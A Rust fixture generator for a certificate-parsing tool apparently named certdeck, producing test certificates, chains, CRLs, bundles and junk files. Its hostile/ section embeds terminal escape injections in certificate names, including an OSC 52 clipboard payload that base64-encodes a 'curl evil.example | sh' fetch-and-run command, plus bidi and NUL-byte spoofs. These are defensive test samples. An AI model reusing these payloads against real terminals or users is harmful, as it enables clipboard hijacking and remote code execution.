//! Writes the rcgen-made part of `fixtures/` (see fixtures/README.md for what each file is
//! for; `fixtures/make.sh` runs this and then adds what only OpenSSL can make).
//!
//!     cargo run --example make_fixtures -- fixtures
//!
//! Validity dates are fixed relative to the tests' clock (`CERTDECK_NOW`, 2026-06-01), so
//! "expired", "expiring soon" and "not yet valid" mean the same thing in every run. Keys
//! are fresh each run, so regenerating changes fingerprints: tests never hard-code them.

use rcgen::{
    BasicConstraints, CertificateParams, CertificateRevocationListParams, CrlDistributionPoint,
    CustomExtension, DistinguishedName, DnType, ExtendedKeyUsagePurpose, IsCa, Issuer, KeyIdMethod,
    KeyPair, KeyUsagePurpose, RevocationReason, RevokedCertParams, RsaKeySize, SanType,
    SerialNumber,
};
use std::path::{Path, PathBuf};
use time::{macros::datetime, OffsetDateTime};

type Res<T> = Result<T, Box<dyn std::error::Error>>;

fn main() -> Res<()> {
    let out = PathBuf::from(std::env::args().nth(1).unwrap_or_else(|| "fixtures".into()));
    for d in [
        "chain", "byname", "hostile", "validity", "serials", "keys", "bundles", "junk",
    ] {
        std::fs::create_dir_all(out.join(d))?;
    }

    // chain/: root → intermediate → leaf, linked by AKI/SKI.
    let root_key = KeyPair::generate()?;
    let mut root = ca_params(
        "Fixture Root CA",
        datetime!(2025-01-01 0:00 UTC),
        datetime!(2035-01-01 0:00 UTC),
    );
    root.serial_number = Some(SerialNumber::from_slice(&[0x01]));
    let root_cert = root.self_signed(&root_key)?;
    let root_issuer = Issuer::new(root.clone(), &root_key);

    let int_key = KeyPair::generate()?;
    let mut int = ca_params(
        "Fixture Issuing CA 1",
        datetime!(2025-01-01 0:00 UTC),
        datetime!(2030-01-01 0:00 UTC),
    );
    int.serial_number = Some(SerialNumber::from_slice(&[0x02]));
    int.use_authority_key_identifier_extension = true;
    int.is_ca = IsCa::Ca(BasicConstraints::Constrained(0));
    let int_cert = int.signed_by(&int_key, &root_issuer)?;
    let int_issuer = Issuer::new(int.clone(), &int_key);

    let leaf_key = KeyPair::generate()?;
    let mut leaf = leaf_params(
        "www.fixture.example",
        &[
            "www.fixture.example",
            "fixture.example",
            "api.fixture.example",
        ],
        datetime!(2026-01-01 0:00 UTC),
        datetime!(2027-01-01 0:00 UTC),
    )?;
    leaf.serial_number = Some(SerialNumber::from_slice(&[0x10, 0x01]));
    leaf.use_authority_key_identifier_extension = true;
    leaf.crl_distribution_points = vec![CrlDistributionPoint {
        uris: vec!["http://crl.fixture.example/issuing1.crl".into()],
    }];
    leaf.custom_extensions = vec![aia("http://ca.fixture.example/issuing1.crt"), policies()];
    let leaf_cert = leaf.signed_by(&leaf_key, &int_issuer)?;

    write(&out, "chain/root.pem", &root_cert.pem())?;
    write(&out, "chain/intermediate.pem", &int_cert.pem())?;
    write(&out, "chain/leaf.pem", &leaf_cert.pem())?;
    std::fs::write(out.join("chain/leaf.der"), leaf_cert.der())?;
    write(
        &out,
        "chain/fullchain.pem",
        &format!("{}{}", leaf_cert.pem(), int_cert.pem()),
    )?;

    // byname/: a leaf with no authority key identifier, so only its issuer name links it
    // to its CA (as with many legacy enterprise CAs).
    let bn_key = KeyPair::generate()?;
    let bn_ca = ca_params(
        "Fixture Legacy CA",
        datetime!(2025-01-01 0:00 UTC),
        datetime!(2035-01-01 0:00 UTC),
    );
    let bn_ca_cert = bn_ca.self_signed(&bn_key)?;
    let bn_issuer = Issuer::new(bn_ca.clone(), &bn_key);
    let bn_leaf_key = KeyPair::generate()?;
    let bn_leaf = leaf_params(
        "legacy.fixture.example",
        &["legacy.fixture.example"],
        datetime!(2026-01-01 0:00 UTC),
        datetime!(2027-01-01 0:00 UTC),
    )?;
    write(&out, "byname/legacy-ca.pem", &bn_ca_cert.pem())?;
    write(
        &out,
        "byname/legacy-leaf.pem",
        &bn_leaf.signed_by(&bn_leaf_key, &bn_issuer)?.pem(),
    )?;

    // Everything below is issued by the intermediate, so it all has a chain.
    let issue =
        |name: &str, cn: &str, sans: &[&str], nb: OffsetDateTime, na: OffsetDateTime| -> Res<()> {
            let key = KeyPair::generate()?;
            let mut p = leaf_params(cn, sans, nb, na)?;
            p.use_authority_key_identifier_extension = true;
            write(&out, name, &p.signed_by(&key, &int_issuer)?.pem())
        };
    let year = (
        datetime!(2026-01-01 0:00 UTC),
        datetime!(2027-01-01 0:00 UTC),
    );

    // hostile/: names that try to drive the terminal. The SAN is ordinary so only the CN
    // (and subject) carry the attack.
    issue(
        "hostile/osc-title.pem",
        "\x1b]0;pwned by certificate\x07title.fixture.example",
        &["osc-title.fixture.example"],
        year.0,
        year.1,
    )?;
    issue(
        "hostile/osc52-clipboard.pem",
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clip.fixture.example",
        &["osc52.fixture.example"],
        year.0,
        year.1,
    )?;
    issue(
        "hostile/csi-clear.pem",
        "\x1b[2J\x1b[Hclear.fixture.example",
        &["csi.fixture.example"],
        year.0,
        year.1,
    )?;
    issue(
        "hostile/bidi-override.pem",
        "evil\u{202e}elpmaxe.erutxif",
        &["bidi.fixture.example"],
        year.0,
        year.1,
    )?;
    issue(
        "hostile/nul-cn.pem",
        "nul.fixture.example\0.attacker.example",
        &["nul.fixture.example"],
        year.0,
        year.1,
    )?;
    let many: Vec<String> = (0..1000)
        .map(|i| format!("h{i}.many.fixture.example"))
        .collect();
    let many_refs: Vec<&str> = many.iter().map(String::as_str).collect();
    issue(
        "hostile/1000-sans.pem",
        "many.fixture.example",
        &many_refs,
        year.0,
        year.1,
    )?;

    // validity/: relative to the tests' clock, 2026-06-01T00:00:00Z.
    issue(
        "validity/expired.pem",
        "expired.fixture.example",
        &["expired.fixture.example"],
        datetime!(2025-01-01 0:00 UTC),
        datetime!(2026-03-01 0:00 UTC),
    )?;
    issue(
        "validity/expiring-soon.pem",
        "soon.fixture.example",
        &["soon.fixture.example"],
        datetime!(2026-03-01 0:00 UTC),
        datetime!(2026-06-15 0:00 UTC),
    )?;
    issue(
        "validity/not-yet-valid.pem",
        "future.fixture.example",
        &["future.fixture.example"],
        datetime!(2030-01-01 0:00 UTC),
        datetime!(2031-01-01 0:00 UTC),
    )?;

    // serials/: the largest serial RFC 5280 allows (20 octets). The negative one needs
    // OpenSSL (rcgen always encodes serials as unsigned): see make.sh.
    {
        let key = KeyPair::generate()?;
        let mut p = leaf_params(
            "serial20.fixture.example",
            &["serial20.fixture.example"],
            year.0,
            year.1,
        )?;
        p.serial_number = Some(SerialNumber::from_slice(&[
            0x7f, 0xee, 0xdd, 0xcc, 0xbb, 0xaa, 0x99, 0x88, 0x77, 0x66, 0x55, 0x44, 0x33, 0x22,
            0x11, 0x00, 0x01, 0x02, 0x03, 0x04,
        ]));
        p.use_authority_key_identifier_extension = true;
        write(
            &out,
            "serials/serial-20-bytes.pem",
            &p.signed_by(&key, &int_issuer)?.pem(),
        )?;
    }

    // keys/: key types an estate holds besides P-256.
    for (name, key) in [
        (
            "keys/rsa-4096.pem",
            KeyPair::generate_rsa_for(&rcgen::PKCS_RSA_SHA256, RsaKeySize::_4096)?,
        ),
        (
            "keys/p384.pem",
            KeyPair::generate_for(&rcgen::PKCS_ECDSA_P384_SHA384)?,
        ),
        (
            "keys/ed25519.pem",
            KeyPair::generate_for(&rcgen::PKCS_ED25519)?,
        ),
    ] {
        let cn = format!(
            "{}.fixture.example",
            name.trim_start_matches("keys/").trim_end_matches(".pem")
        );
        let mut p = leaf_params(&cn, &[cn.as_str()], year.0, year.1)?;
        p.use_authority_key_identifier_extension = true;
        write(&out, name, &p.signed_by(&key, &int_issuer)?.pem())?;
    }

    // bundles/: what operators actually keep on disk.
    let kc_key = KeyPair::generate()?;
    let mut kc = leaf_params(
        "keyed.fixture.example",
        &["keyed.fixture.example"],
        year.0,
        year.1,
    )?;
    kc.use_authority_key_identifier_extension = true;
    let kc_cert = kc.signed_by(&kc_key, &int_issuer)?;
    write(
        &out,
        "bundles/cert-and-key.pem",
        &format!("{}{}", kc_cert.pem(), kc_key.serialize_pem()),
    )?;

    let crl = CertificateRevocationListParams {
        this_update: datetime!(2026-05-01 0:00 UTC),
        next_update: datetime!(2026-06-01 0:00 UTC),
        crl_number: SerialNumber::from_slice(&[0x07]),
        issuing_distribution_point: None,
        revoked_certs: vec![RevokedCertParams {
            serial_number: SerialNumber::from_slice(&[0x10, 0x99]),
            revocation_time: datetime!(2026-04-01 0:00 UTC),
            reason_code: Some(RevocationReason::KeyCompromise),
            invalidity_date: None,
        }],
        key_identifier_method: KeyIdMethod::Sha256,
    }
    .signed_by(&int_issuer)?;
    write(&out, "bundles/crl.pem", &crl.pem()?)?;

    let csr_key = KeyPair::generate()?;
    let csr = leaf_params(
        "requested.fixture.example",
        &["requested.fixture.example"],
        year.0,
        year.1,
    )?
    .serialize_request(&csr_key)?;
    let mixed_key = KeyPair::generate()?;
    let mut mixed_leaf = leaf_params(
        "mixed.fixture.example",
        &["mixed.fixture.example"],
        year.0,
        year.1,
    )?;
    mixed_leaf.use_authority_key_identifier_extension = true;
    let mixed_cert = mixed_leaf.signed_by(&mixed_key, &int_issuer)?;
    // A leaf, its chain, its key, a CSR and a CRL, with the text OpenSSL puts between blocks.
    write(
        &out,
        "bundles/mixed.pem",
        &format!(
            "subject=CN=mixed.fixture.example\nissuer=CN=Fixture Issuing CA 1\n{}{}{}{}{}",
            mixed_cert.pem(),
            int_cert.pem(),
            mixed_key.serialize_pem(),
            csr.pem()?,
            crl.pem()?,
        ),
    )?;

    // A good certificate, a corrupted one, another good one: block 2 must be reported
    // while 1 and 3 are stored.
    let g1_key = KeyPair::generate()?;
    let mut g1 = leaf_params(
        "good-one.fixture.example",
        &["good-one.fixture.example"],
        year.0,
        year.1,
    )?;
    g1.use_authority_key_identifier_extension = true;
    let g3_key = KeyPair::generate()?;
    let mut g3 = leaf_params(
        "good-three.fixture.example",
        &["good-three.fixture.example"],
        year.0,
        year.1,
    )?;
    g3.use_authority_key_identifier_extension = true;
    let broken = corrupt(&leaf_cert.pem());
    write(
        &out,
        "bundles/one-broken-block.pem",
        &format!(
            "{}{}{}",
            g1.signed_by(&g1_key, &int_issuer)?.pem(),
            broken,
            g3.signed_by(&g3_key, &int_issuer)?.pem()
        ),
    )?;

    // junk/: not certificates at all.
    write(&out, "junk/empty.pem", "")?;
    let mut garbage = Vec::with_capacity(512);
    let mut x: u32 = 0x2545_f491;
    for _ in 0..512 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        garbage.push((x >> 24) as u8);
    }
    garbage[0] = 0x42; // not a DER SEQUENCE tag, whatever the generator gives
    std::fs::write(out.join("junk/garbage.pem"), &garbage)?;
    write(
        &out,
        "junk/notes.txt",
        "Not a certificate: an operator's note left beside them.\n",
    )?;
    println!("fixtures written to {}", out.display());
    Ok(())
}

fn write(out: &Path, name: &str, text: &str) -> Res<()> {
    std::fs::write(out.join(name), text)?;
    Ok(())
}

fn ca_params(cn: &str, nb: OffsetDateTime, na: OffsetDateTime) -> CertificateParams {
    let mut p = CertificateParams::default();
    let mut dn = DistinguishedName::new();
    dn.push(DnType::CountryName, "CH");
    dn.push(DnType::OrganizationName, "certdeck fixtures");
    dn.push(DnType::CommonName, cn);
    p.distinguished_name = dn;
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    p.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::CrlSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    p.not_before = nb;
    p.not_after = na;
    p
}

fn leaf_params(
    cn: &str,
    sans: &[&str],
    nb: OffsetDateTime,
    na: OffsetDateTime,
) -> Res<CertificateParams> {
    let mut p = CertificateParams::default();
    p.subject_alt_names = sans
        .iter()
        .map(|s| Ok(SanType::DnsName((*s).try_into()?)))
        .collect::<Res<Vec<_>>>()?;
    let mut dn = DistinguishedName::new();
    dn.push(DnType::OrganizationName, "certdeck fixtures");
    dn.push(DnType::CommonName, cn);
    p.distinguished_name = dn;
    p.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    p.extended_key_usages = vec![ExtendedKeyUsagePurpose::ServerAuth];
    p.not_before = nb;
    p.not_after = na;
    Ok(p)
}

/// Flips characters in the middle of a PEM body so base64 still decodes but DER does not.
fn corrupt(pem: &str) -> String {
    let mut lines: Vec<String> = pem.lines().map(str::to_string).collect();
    lines[1] = "MIIBADCBp6ADAgECAgEBMAoGCCqGSM49BAMCMAAwHhcNMjYwMTAxMDAwMDAwWhcN".into();
    lines.truncate(4);
    lines.push(pem.lines().last().unwrap_or_default().to_string());
    lines.join("\n") + "\n"
}

// Minimal DER, for the two extensions rcgen does not write.
fn tlv(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut v = vec![tag];
    let n = body.len();
    if n < 0x80 {
        v.push(n as u8);
    } else if n < 0x100 {
        v.extend([0x81, n as u8]);
    } else {
        v.extend([0x82, (n >> 8) as u8, n as u8]);
    }
    v.extend_from_slice(body);
    v
}

/// Authority Information Access with one caIssuers URL.
fn aia(url: &str) -> CustomExtension {
    let ca_issuers = [0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x30, 0x02];
    let access = tlv(
        0x30,
        &[&ca_issuers[..], &tlv(0x86, url.as_bytes())].concat(),
    );
    CustomExtension::from_oid_content(&[1, 3, 6, 1, 5, 5, 7, 1, 1], tlv(0x30, &access))
}

/// Certificate Policies with the CA/B Forum domain-validated policy.
fn policies() -> CustomExtension {
    let dv = [0x06, 0x06, 0x67, 0x81, 0x0c, 0x01, 0x02, 0x01];
    CustomExtension::from_oid_content(&[2, 5, 29, 32], tlv(0x30, &tlv(0x30, &dv)))
}
